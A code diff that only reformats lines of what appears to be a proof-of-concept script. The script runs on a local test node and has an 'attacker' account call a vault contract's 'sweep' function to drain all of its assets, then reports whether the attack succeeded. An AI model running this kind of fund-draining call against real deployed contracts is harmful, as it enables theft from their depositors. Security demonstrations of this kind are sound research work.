@@ -11,6 +11,13 @@ if (!attacker) throw new Error('the node has no unlocked accounts: is it an anvi
 const amount = await read(vault, vaultAbi, 'totalAssets')
 console.log(`the vault holds ${dollars(amount)}; asking for all of it`)
 
-const { status, blockNumber } = await send({ from: attacker, to: vault, data: encodeCall(vaultAbi, 'sweep', [attacker, amount]), tip: 3_000_000_000n })
+const { status, blockNumber } = await send({
+  from: attacker,
+  to: vault,
+  data: encodeCall(vaultAbi, 'sweep', [attacker, amount]),
+  tip: 3_000_000_000n,
+})
 const left = await read(vault, vaultAbi, 'totalAssets')
-console.log(`block ${BigInt(blockNumber)}: the attack ${BigInt(status) === 1n ? 'went through' : 'was reverted'}; the vault holds ${dollars(left)}`)
+console.log(
+  `block ${BigInt(blockNumber)}: the attack ${BigInt(status) === 1n ? 'went through' : 'was reverted'}; the vault holds ${dollars(left)}`,
+)
